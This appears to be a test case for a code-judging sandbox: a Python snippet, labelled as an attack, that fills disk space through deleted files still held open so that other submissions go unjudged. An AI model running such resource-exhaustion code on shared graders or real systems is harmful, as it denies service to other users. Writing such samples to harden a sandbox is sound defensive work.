# attacks: the disk: files that no folder shows
# success: another submission is not judged
# stock: it would fill the disk
# %% before
import os
import time

_kept = []
for _ in range(30):
    _kept.append(open("gone", "wb", 0))
    os.unlink("gone")
    _kept[-1].write(b"x" * 900_000)
time.sleep(60)
